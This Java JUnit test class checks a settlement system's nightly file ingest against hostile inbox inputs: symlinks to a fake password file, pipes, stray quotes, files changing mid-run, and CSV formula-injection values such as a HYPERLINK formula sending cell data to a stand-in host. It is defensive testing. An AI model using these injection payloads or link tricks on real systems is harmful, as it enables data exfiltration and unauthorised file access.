package io.partnersettlement.ingest;

import static io.partnersettlement.ingest.NightlyJobTest.performance;
import static io.partnersettlement.support.TestWorkspace.CURRENT_HEADER;
import static io.partnersettlement.support.TestWorkspace.usage;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.batch.core.BatchStatus;

import io.partnersettlement.support.Engine;
import io.partnersettlement.support.EngineFixture;
import io.partnersettlement.support.TestDatabase;
import io.partnersettlement.support.TestWorkspace;

/**
 * What an inbox can hold besides plain files, through the nightly job: symbolic links, directories and pipes named like
 * consumption files, files of one name delivered twice, stray quotes. Each is set aside or read line by line, and the
 * good input beside it is ingested.
 */
class InboxFileAttackTest {

    @RegisterExtension
    final EngineFixture fixture = new EngineFixture();

    @TempDir
    Path dir;

    TestWorkspace workspace(String name) {
        return new TestWorkspace(dir.resolve(name))
                .partner("P1", "CORE", "BANK_TRANSFER")
                .customer("C1", "P1", "REFERRAL", "2025-01-01", "")
                .writeReference();
    }

    static List<String> files(Engine engine) {
        return engine.jdbc().queryForList("""
                SELECT file_name || ' ' || status || ' ' || lines_read || '/' || records_ingested || '/' || repeats
                       || '/' || rejected || ' ' || COALESCE(reject_reason, '-') || ' ' || COALESCE(rejects_file, '-')
                  FROM ingest_file ORDER BY file_id""", String.class);
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void linksDirectoriesAndPipesAreSetAsideWithoutBeingRead(TestDatabase database) throws Exception {
        TestWorkspace ws = workspace("ws");
        ws.inboxFile("a-good.csv", CURRENT_HEADER, usage("g1", "C1", "2026-09-03", "7.00"));
        // a good consumption file outside the inbox, and a password file: links to them are never followed
        Path outside = ws.root().resolve("elsewhere.csv");
        Files.writeString(outside, CURRENT_HEADER + "\n" + usage("o1", "C1", "2026-09-03", "100.00") + "\n");
        Path passwd = ws.root().resolve("passwd");
        Files.writeString(passwd, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n");
        Files.createSymbolicLink(ws.inbox().resolve("b-link.csv"), outside);
        Files.createSymbolicLink(ws.inbox().resolve("c-passwd.csv"), passwd);
        Files.createSymbolicLink(ws.inbox().resolve("d-dangling.csv.gz"), ws.root().resolve("nowhere.csv.gz"));
        Files.createDirectories(ws.inbox().resolve("e-folder.csv"));
        Path fifo = ws.inbox().resolve("f-pipe.csv");
        assertThat(new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor()).isZero();

        String url = fixture.database(database);
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(files(engine)).containsExactly(
                    "a-good.csv ARCHIVED 1/1/0/0 - a-good.csv.rejects.csv",
                    "b-link.csv REJECTED_FILE 0/0/0/0 NOT_A_REGULAR_FILE b-link.csv.rejects.csv",
                    "c-passwd.csv REJECTED_FILE 0/0/0/0 NOT_A_REGULAR_FILE c-passwd.csv.rejects.csv",
                    "d-dangling.csv.gz REJECTED_FILE 0/0/0/0 NOT_A_REGULAR_FILE d-dangling.csv.gz.rejects.csv",
                    "e-folder.csv REJECTED_FILE 0/0/0/0 NOT_A_REGULAR_FILE e-folder.csv.rejects.csv",
                    "f-pipe.csv REJECTED_FILE 0/0/0/0 NOT_A_REGULAR_FILE f-pipe.csv.rejects.csv");
            // only g1's 7.00: o1's 100.00 behind the link is not ingested
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("7.00");
            assertThat(engine.count("SELECT COUNT(*) FROM rejected_line")).isZero();
        }
        Path rejects = ws.root().resolve("rejects");
        assertThat(Files.readAllLines(rejects.resolve("b-link.csv.rejects.csv"))).containsExactly(
                "line_number,reason,message,raw_line",
                "1,NOT_A_REGULAR_FILE,a symbolic link: set aside without being read; put the file itself in the inbox,");
        assertThat(Files.readAllLines(rejects.resolve("e-folder.csv.rejects.csv"))).element(1).asString()
                .startsWith("1,NOT_A_REGULAR_FILE,a directory:");
        assertThat(Files.readAllLines(rejects.resolve("f-pipe.csv.rejects.csv"))).element(1).asString()
                .startsWith("1,NOT_A_REGULAR_FILE,\"not a regular file (a pipe, socket or device):");
        // the links themselves are set aside, their targets untouched; not a byte of the password file is copied
        assertThat(Files.isSymbolicLink(rejects.resolve("b-link.csv"))).isTrue();
        assertThat(Files.isSymbolicLink(rejects.resolve("c-passwd.csv"))).isTrue();
        assertThat(Files.isSymbolicLink(rejects.resolve("d-dangling.csv.gz"))).isTrue();
        assertThat(rejects.resolve("e-folder.csv")).isDirectory();
        assertThat(outside).exists();
        assertThat(passwd).exists();
        try (Stream<Path> written = Files.walk(ws.root())) {
            for (Path file : written.filter(p -> Files.isRegularFile(p, java.nio.file.LinkOption.NOFOLLOW_LINKS))
                    .filter(p -> !p.equals(passwd)).toList()) {
                assertThat(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1)).as(file.toString())
                        .doesNotContain("root:x:0:0");
            }
        }
        try (Stream<Path> left = Files.list(ws.inbox())) {
            assertThat(left).isEmpty();
        }
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void everyFileHasARejectsFileOfItsOwnTonightAndOnLaterNights(TestDatabase database) throws IOException {
        TestWorkspace ws = workspace("ws");
        ws.inboxFile("x.csv", CURRENT_HEADER, usage("p1", "C1", "2026-09-03", "1.00"), usage("p2", "C1", "2026-09-33", "1.00"));
        ws.inboxGzip("x.csv.gz", CURRENT_HEADER, usage("z1", "C1", "2026-09-03", "2.00"), "z2,C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,x,0,0,0,0,0,,,,,,CNY");
        String url = fixture.database(database);
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            // x.csv delivered again the next night, with other lines: its rejects file is a new one
            ws.inboxFile("x.csv", CURRENT_HEADER, usage("p3", "C1", "2026-09-04", "4.00"), usage("p4", "C1", "", "1.00"));
            assertThat(engine.nightly("2026-11-03").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(files(engine)).containsExactly(
                    "x.csv ARCHIVED 2/1/0/1 - x.csv.rejects.csv",
                    "x.csv.gz ARCHIVED 2/1/0/1 - x.csv.gz.rejects.csv",
                    "x.csv ARCHIVED 2/1/0/1 - x.csv.3.rejects.csv");
            // p1 1.00 + z1 2.00 + p3 4.00
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("7.00");
        }
        Path rejects = ws.root().resolve("rejects");
        assertThat(Files.readAllLines(rejects.resolve("x.csv.rejects.csv"))).element(1).asString().startsWith("3,BAD_DATE,");
        assertThat(Files.readAllLines(rejects.resolve("x.csv.gz.rejects.csv"))).element(1).asString()
                .startsWith("3,BAD_NUMBER,");
        assertThat(Files.readAllLines(rejects.resolve("x.csv.3.rejects.csv"))).element(1).asString()
                .startsWith("3,MISSING_VALUE,");
        assertThat(ws.root().resolve("archive/x.csv")).exists();
        assertThat(ws.root().resolve("archive/x.csv.3")).exists();
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void aStrayQuoteSpoilsOnlyItsOwnLine(TestDatabase database) throws IOException {
        TestWorkspace ws = workspace("ws");
        ws.inboxFile("q.csv", CURRENT_HEADER,
                usage("s0", "C1", "2026-09-03", "1.00"),
                // line 3: a quote inside an unquoted field opens nothing; line 4 is a record of its own
                "s1,C1,2026-09-03,,,5,hws.service.type.ec2,ab\"c,cn-north-4,3,,2.00,2.00,0,0,0,0,,,,,,CNY",
                usage("s2", "C1", "2026-09-03", "4.00"),
                "s3,C1,2026-09-03,,,5,hws.service.type.ec2,x\"y,cn-north-4,3,,8.00,8.00,0,0,0,0,,,,,,CNY",
                // lines 6-7: a field quoted from its start does span lines
                "s4,C1,2026-09-03,,,5,hws.service.type.ec2,\"two\nlines\",cn-north-4,3,,16.00,16.00,0,0,0,0,,,,,,CNY",
                usage("s5", "C1", "2026-09-03", "32.00"));
        String url = fixture.database(database);
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(files(engine)).containsExactly("q.csv ARCHIVED 6/4/0/2 - q.csv.rejects.csv");
            // s0 1.00 + s2 4.00 + s4 16.00 + s5 32.00 = 53.00; s1 and s3 rejected
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("53.00");
            // 8 physical lines: the header, s0, s1, s2, s3, s4's two, s5 — counted at registration and by the reader
            assertThat(engine.jdbc().queryForList("SELECT physical_lines || '/' || physical_lines_read FROM ingest_file",
                    String.class)).containsExactly("8/8");
        }
        assertThat(Files.readAllLines(ws.root().resolve("rejects/q.csv.rejects.csv"))).extracting(l -> l.substring(0,
                Math.min(l.length(), 63))).containsExactly(
                        "line_number,reason,message,raw_line",
                        "3,BAD_LINE,not valid CSV: quote inside unquoted field 8,\"s1,C1,",
                        "5,BAD_LINE,not valid CSV: quote inside unquoted field 8,\"s3,C1,");
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void longBadLinesAreHandedOnInBlocksOfBoundedSize(TestDatabase database) throws IOException {
        TestWorkspace ws = workspace("ws");
        // 160 lines of 60,000 characters each, every one rejected (its amount is not a number) and kept with its raw
        // text: 9.6 MB of rejected text in a file whose lines alone would make one block (the first holds 4,096 lines)
        String filler = "x".repeat(60_000);
        List<String> lines = new java.util.ArrayList<>();
        lines.add(usage("l0", "C1", "2026-09-03", "1.00"));
        for (int i = 1; i <= 160; i++) {
            lines.add("l" + i + ",C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,one,1.00,0,0,0,0,,,,,," + filler);
        }
        lines.add(usage("l161", "C1", "2026-09-03", "2.00"));
        ws.write("inbox/long.csv", CURRENT_HEADER, lines);
        String url = fixture.database(database);
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(files(engine)).containsExactly("long.csv ARCHIVED 162/2/0/160 - long.csv.rejects.csv");
            // l0 1.00 + l161 2.00
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("3.00");
            // a block keeps at most 8 MiB of text (about 140 of these lines): 160 × 60,000 = 9,600,000 characters make 2
            // blocks, each its own chunk, so no more than a few such blocks are ever in memory at once
            assertThat(engine.count("""
                    SELECT COMMIT_COUNT FROM BATCH_STEP_EXECUTION WHERE STEP_NAME = 'ingestPartitionStep:files-1'"""))
                    .isEqualTo(2);
        }
        assertThat(Files.readAllLines(ws.root().resolve("rejects/long.csv.rejects.csv"))).hasSize(161);
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void aFileThatChangesWhileTheRunReadsItCountsForNothingAndIsTakenWholeByALaterRun(TestDatabase database)
            throws IOException {
        TestWorkspace ws = workspace("ws");
        Path small = ws.inboxFile("a-small.csv", CURRENT_HEADER, usage("s1", "C1", "2026-09-03", "1.00"),
                usage("s2", "C1", "2026-09-03", "1.00"), usage("s3", "C1", "2026-09-03", "1.00"));
        List<String> bigLines = new java.util.ArrayList<>();
        for (int i = 1; i <= 30_000; i++) {
            bigLines.add(usage("b" + i, "C1", "2026-09-04", "0.01"));
        }
        Path big = ws.write("inbox/b-big.csv", CURRENT_HEADER, bigLines);
        // c-steady repeats b-big's b7 to the byte: with b-big taken back, c-steady's b7 is a new record, not a repeat
        ws.inboxFile("c-steady.csv", CURRENT_HEADER, usage("c1", "C1", "2026-09-05", "2.00"),
                usage("b7", "C1", "2026-09-04", "0.01"));
        Path late = ws.inboxFile("d-late.csv", CURRENT_HEADER, usage("d1", "C1", "2026-09-06", "4.00"));
        String url = fixture.database(database);
        // once b-big's first block is read (the other reading thread has read a-small): 5 lines more for a-small and
        // b-big, as an upload still in progress would add, and d-late, read after b-big on this thread, disappears
        java.util.concurrent.atomic.AtomicBoolean done = new java.util.concurrent.atomic.AtomicBoolean();
        InboxReader.blockHook = (file, line) -> {
            if (file.equals("b-big.csv") && done.compareAndSet(false, true)) {
                try {
                    for (Path grown : List.of(small, big)) {
                        Files.writeString(grown, String.join("\n", usage("g1" + grown.getFileName(), "C1", "2026-09-07", "1.00"),
                                usage("g2" + grown.getFileName(), "C1", "2026-09-07", "1.00"),
                                usage("g3" + grown.getFileName(), "C1", "2026-09-07", "1.00"),
                                usage("g4" + grown.getFileName(), "C1", "2026-09-07", "1.00"),
                                usage("g5" + grown.getFileName(), "C1", "2026-09-07", "1.00")) + "\n",
                                java.nio.file.StandardOpenOption.APPEND);
                    }
                    Files.move(late, ws.root().resolve("d-late.csv.aside"));
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            }
        };
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(done).isTrue();
            InboxReader.blockHook = null;
            assertThat(files(engine)).containsExactly(
                    "a-small.csv CHANGED 0/0/0/0 - a-small.csv.rejects.csv",
                    "b-big.csv CHANGED 0/0/0/0 - b-big.csv.rejects.csv",
                    "c-steady.csv ARCHIVED 2/2/0/0 - c-steady.csv.rejects.csv",
                    "d-late.csv CHANGED 0/0/0/0 - d-late.csv.rejects.csv");
            assertThat(engine.jdbc().queryForList("SELECT status_reason FROM ingest_file WHERE status = 'CHANGED'"
                    + " ORDER BY file_id", String.class)).satisfiesExactly(
                            a -> assertThat(a).startsWith("it changed"),
                            b -> assertThat(b).startsWith("it changed while the run read it: "),
                            d -> assertThat(d).isEqualTo("it is gone from the inbox"));
            // nothing of the changed files: only c-steady's c1 and b7 in the ledger, no rejected line, no period row
            assertThat(IdLedger.count(engine.jdbc())).isEqualTo(2);
            assertThat(engine.count("SELECT COUNT(*) FROM rejected_line")).isZero();
            assertThat(engine.count("SELECT COUNT(*) FROM repeat_tally")).isZero();
            assertThat(engine.count("SELECT COUNT(*) FROM ingest_file_period WHERE file_id <> 3")).isZero();
            // c1 2.00 + b7 0.01
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("2.01");
            try (Stream<Path> archived = Files.list(ws.root().resolve("archive"))) {
                assertThat(archived.map(p -> p.getFileName().toString())).containsExactly("c-steady.csv");
            }
            try (Stream<Path> rejected = Files.list(ws.root().resolve("rejects"))) {
                assertThat(rejected).isEmpty();
            }
            assertThat(Files.readAllLines(small)).hasSize(1 + 3 + 5);
            assertThat(Files.readAllLines(big)).hasSize(1 + 30_000 + 5);

            // the next night takes both whole, and d-late once it is back
            Files.move(ws.root().resolve("d-late.csv.aside"), late);
            assertThat(engine.nightly("2026-11-03").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(files(engine).subList(4, 7)).containsExactly(
                    "a-small.csv ARCHIVED 8/8/0/0 - a-small.csv.5.rejects.csv",
                    "b-big.csv ARCHIVED 30005/30004/1/0 - b-big.csv.6.rejects.csv",
                    "d-late.csv ARCHIVED 1/1/0/0 - d-late.csv.7.rejects.csv");
            // a-small 3 × 1.00 + 5 × 1.00 = 8.00; b-big 30,000 × 0.01 = 300.00 (b7 once, from c-steady) + 5 × 1.00;
            // c-steady c1 2.00 + b7 0.01; d-late 4.00: 8.00 + 299.99 + 5.00 + 2.01 + 4.00 = 319.00
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("319.00");
            assertThat(ws.root().resolve("archive/b-big.csv")).hasSameBinaryContentAs(ws.root().resolve("archive/b-big.csv"));
            assertThat(Files.readAllLines(ws.root().resolve("archive/b-big.csv"))).hasSize(1 + 30_000 + 5);
        } finally {
            InboxReader.blockHook = null;
        }
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void rejectedLinesKeepTheirBytesInTheCsvAndOpenInertInTheirWorkbook(TestDatabase database) throws Exception {
        TestWorkspace ws = workspace("ws");
        List<String> hostile = List.of(
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\"),C1,2026-09-03",
                "+1+1,C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,x,1.00,0,0,0,0,,,,,,CNY",
                "@SUM(1),C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,1.00,2.00,0,0,0,0,,,,,,CNY",
                "-2,C1,2026-09-03,,,5,hws.service.type.ec2,,cn-north-4,3,,1.00,1.00,0,0,0,0,,,,,,XYZW");
        List<String> lines = new java.util.ArrayList<>(hostile);
        lines.add(usage("ok1", "C1", "2026-09-03", "1.00"));
        ws.write("inbox/f.csv", CURRENT_HEADER, lines);
        String url = fixture.database(database);
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(files(engine)).containsExactly("f.csv ARCHIVED 5/1/0/4 - f.csv.rejects.csv");
        }
        // the CSV, for programs: each raw line byte for byte as the file held it
        try (var parser = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().get()
                .parse(Files.newBufferedReader(ws.root().resolve("rejects/f.csv.rejects.csv")))) {
            assertThat(parser.getRecords()).extracting(r -> r.get("raw_line")).containsExactlyElementsOf(hostile);
        }
        // the workbook, for people: the same rows, every raw line a text cell shown as text, never a formula
        try (var book = org.apache.poi.ss.usermodel.WorkbookFactory.create(
                ws.root().resolve("rejects/f.csv.rejects.xlsx").toFile(), null, true)) {
            var sheet = book.getSheetAt(0);
            List<String> raw = new java.util.ArrayList<>();
            for (var row : sheet) {
                var cell = row.getCell(3);
                assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
                if (row.getRowNum() > 0) {
                    assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
                    raw.add(cell.getStringCellValue());
                }
            }
            // stored behind a single quote, which the spreadsheet shows as text
            assertThat(raw).containsExactlyElementsOf(hostile.stream().map(l -> "'" + l).toList());
        }
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void oddButRealFilesTieOutLineByLine(TestDatabase database) throws Exception {
        TestWorkspace ws = workspace("ws");
        // a byte-order mark and nothing else; a last line without a line end; CRLF with the last line unended and
        // blank lines after a record; a name with spaces and Chinese characters; a gzip file without a final line end
        Files.createDirectories(ws.inbox());
        Files.write(ws.inbox().resolve("a-bom-only.csv"), new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        Files.writeString(ws.inbox().resolve("b-unended.csv"), CURRENT_HEADER + "\n" + usage("u1", "C1", "2026-09-03", "1.00"));
        Files.writeString(ws.inbox().resolve("c-crlf.csv"), CURRENT_HEADER + "\r\n" + usage("r1", "C1", "2026-09-03", "2.00")
                + "\r\n\r\n\r\n" + usage("r2", "C1", "2026-09-03", "4.00"));
        ws.inboxFile("d 九月 账单.csv", CURRENT_HEADER, usage("n1", "C1", "2026-09-03", "8.00"));
        try (var out = new java.util.zip.GZIPOutputStream(Files.newOutputStream(ws.inbox().resolve("e-unended.csv.gz")))) {
            out.write((CURRENT_HEADER + "\n" + usage("z1", "C1", "2026-09-03", "16.00")).getBytes(StandardCharsets.UTF_8));
        }
        String url = fixture.database(database);
        try (Engine engine = new Engine(ws.root(), url)) {
            assertThat(engine.nightly("2026-11-02").getStatus()).isEqualTo(BatchStatus.COMPLETED);
            assertThat(engine.jdbc().queryForList("""
                    SELECT file_name || ' ' || status || ' ' || lines_read || ' ' || COALESCE(reject_reason, '-') || ' '
                           || COALESCE(CAST(physical_lines AS VARCHAR(20)), '-') || '/' || physical_lines_read
                      FROM ingest_file ORDER BY file_id""", String.class)).containsExactly(
                            "a-bom-only.csv REJECTED_FILE 0 MISSING_COLUMN 0/0",
                            "b-unended.csv ARCHIVED 1 - 2/2",
                            "c-crlf.csv ARCHIVED 2 - 5/5",
                            "d 九月 账单.csv ARCHIVED 1 - 2/2",
                            "e-unended.csv.gz ARCHIVED 1 - 2/2");
            // u1 1.00 + r1 2.00 + r2 4.00 + n1 8.00 + z1 16.00
            assertThat(performance(engine, "P1", "2026-09")).isEqualByComparingTo("31.00");
        }
        assertThat(ws.root().resolve("archive/d 九月 账单.csv")).exists();
    }

    @org.junit.jupiter.api.Test
    void theRunsOutputNamesEachFileLeftInTheInboxSetAsideOrWithRejects() throws Exception {
        TestWorkspace ws = workspace("ws");
        ws.inboxFile("a.csv", CURRENT_HEADER, usage("a1", "C1", "2026-09-03", "1.00"), usage("a2", "C1", "2026-09-33", "1.00"));
        Files.createSymbolicLink(ws.inbox().resolve("b-link.csv"), ws.root().resolve("a-target.csv"));
        List<String> lines = new java.util.ArrayList<>();
        for (int i = 1; i <= 5_000; i++) {
            lines.add(usage("c" + i, "C1", "2026-09-04", "0.01"));
        }
        Path growing = ws.write("inbox/c-growing.csv", CURRENT_HEADER, lines);
        InboxReader.blockHook = (file, line) -> {
            try {
                Files.writeString(growing, usage("c-late" + line, "C1", "2026-09-04", "0.01") + "\n",
                        java.nio.file.StandardOpenOption.APPEND);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        };
        io.partnersettlement.support.Cli.Result result;
        try {
            result = io.partnersettlement.support.Cli.capture(ws.root(), null, "nightly", "--date", "2026-11-02");
        } finally {
            InboxReader.blockHook = null;
        }
        Path rejects = ws.root().resolve("rejects");
        assertThat(result.out()).contains(
                "1 line(s) of a.csv rejected: " + rejects.resolve("a.csv.rejects.csv"),
                "set aside whole (NOT_A_REGULAR_FILE): b-link.csv — see " + rejects.resolve("b-link.csv.rejects.csv"),
                "left in the inbox: c-growing.csv — it changed while the run read it: ");
        assertThat(growing).exists();
    }
}
